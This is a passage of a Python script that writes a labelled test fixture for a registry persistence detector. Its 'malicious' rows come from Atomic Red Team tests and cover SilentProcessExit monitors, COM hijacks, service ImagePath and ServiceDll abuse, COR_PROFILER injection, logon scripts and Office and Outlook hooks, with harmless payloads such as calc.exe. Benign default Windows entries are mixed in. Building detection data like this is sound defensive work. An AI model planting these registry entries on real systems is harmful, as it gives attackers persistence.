 ('T1546.012#3', 'silentprocessexit_monitor', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\whoami.exe', 'MonitorProcess', 'REG_SZ', 'cmd.exe /c calc.exe', 'T1546.012', ''),
 ('T1546.015#1', 'com_hkcu_inprocserver32', 'NTUSER', 'Software\\Classes\\CLSID\\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\\InprocServer32', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\AtomicTest.dll', 'T1546.015', ''),
 ('T1543.003#1', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\Fax', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c "write-host \'T1543.003 Test\'"', 'T1543.003', ''),
 ('T1543.003#2', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\AtomicTestService_CMD', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\AtomicRedTeam\\atomics\\T1543.003\\bin\\AtomicService.exe', 'T1543.003', ''),
 ('T1543.003#4', 'svc_servicedll', 'SYSTEM', 'ControlSet001\\Services\\W64Time\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%systemroot%\\system32\\w64time.dll', 'T1543.003', 'val|SYSTEM|ControlSet001\\Services\\W64Time|ImagePath|REG_EXPAND_SZ|c:\\Windows\\System32\\svchost.exe -k TimeService'),
 ('T1543.003#4b', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\W64Time', 'ImagePath', 'REG_EXPAND_SZ', 'c:\\Windows\\System32\\svchost.exe -k TimeService', 'T1543.003', ''),
 ('T1543.003#4c', 'svchost_groups', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Svchost', 'TimeService', 'REG_MULTI_SZ', 'W64Time', 'T1543.003', ''),
 ('T1574.011#2', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\calcservice', 'ImagePath', 'REG_EXPAND_SZ', '%windir%\\system32\\cmd.exe', 'T1543.003', ''),
 ('T1574.012#1', 'hkcu_environment_cor_profiler', 'NTUSER', 'Environment', 'COR_PROFILER_PATH', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1574.012\\bin\\T1574.012x64.dll', 'T1574.012', ''),
 ('T1574.012#1b', 'com_hkcu_inprocserver32', 'NTUSER', 'Software\\Classes\\CLSID\\{09108e71-974c-4010-89cb-acf471ae9e2c}\\InprocServer32', '', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1574.012\\bin\\T1574.012x64.dll', 'T1546.015', ''),
 ('T1574.012#1c', 'hkcu_environment_cor_profiler_clsid', 'NTUSER', 'Environment', 'COR_PROFILER', 'REG_SZ', '{09108e71-974c-4010-89cb-acf471ae9e2c}', 'T1574.012', ''),
 ('T1574.012#2', 'sm_environment_cor_profiler', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\Environment', 'COR_PROFILER_PATH', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1574.012\\bin\\T1574.012x64.dll', 'T1574.012', ''),
 ('T1574.012#2b', 'sm_environment_cor_profiler_clsid', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\Environment', 'COR_PROFILER', 'REG_SZ', '{09108e71-974c-4010-89cb-acf471ae9e2c}', 'T1574.012', ''),
 ('T1037.001#1', 'userinitmprlogonscript', 'NTUSER', 'Environment', 'UserInitMprLogonScript', 'REG_SZ', '%temp%\\art.bat', 'T1037.001', ''),
 ('T1137.002#1', 'office_test_hkcu', 'NTUSER', 'Software\\Microsoft\\Office test\\Special\\Perf', '', 'REG_SZ', 'C:\\Path\\AtomicRedTeam.dll', 'T1137.002', ''),
 ('T1137.004#1', 'outlook_webview_url', 'NTUSER', 'Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox', 'URL', 'REG_SZ', 'file://C:\\AtomicRedTeam\\atomics\\T1137.004\\src\\T1137.004.html', 'T1137.004', ''),
]
for (test, lid, hive, k, v, t, d, tech, ctx) in ART:
    out.append('\t'.join(['malicious', lid, hive, k, v, t, d, tech, 'Medium', '', ctx, '', 'Atomic Red Team ' + test]))
B3 = [
 ('ext_progid_default', 'SOFTWARE', 'Classes\\.hta', '', 'REG_SZ', 'htafile', 'Info', '', 'Windows default association'),
 ('ext_progid_default', 'SOFTWARE', 'Classes\\.pdf', '', 'REG_SZ', 'AcroExch.Document.DC', 'Low', '', 'document type owned by a reader'),
 ('svchost_groups', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Svchost', 'netsvcs', 'REG_MULTI_SZ', 'CertPropSvc|SCPolicySvc|lanmanserver|gpsvc|IKEEXT', 'Info', '', 'Windows group'),
 ('svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\WpnUserService', 'ImagePath', 'REG_EXPAND_SZ', '%SystemRoot%\\system32\\svchost.exe -k UnistackSvcGroup', 'Low', '', 'Windows svchost group'),
 ('accessibility_ats', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs\\Magnifier', 'StartExe', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\Magnify.exe', 'Info', '', 'Windows Magnifier AT'),
 ('accessibility_configuration_hklm', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility', 'Configuration', 'REG_SZ', 'osk', 'Info', '', 'On-Screen Keyboard at logon'),
]
add_benign(B3)
open('tests/data/planted/planted.tsv', 'w').write('\n'.join(out) + '\n')
print(len(rows), 'locations,', len(out) - 4, 'rows')
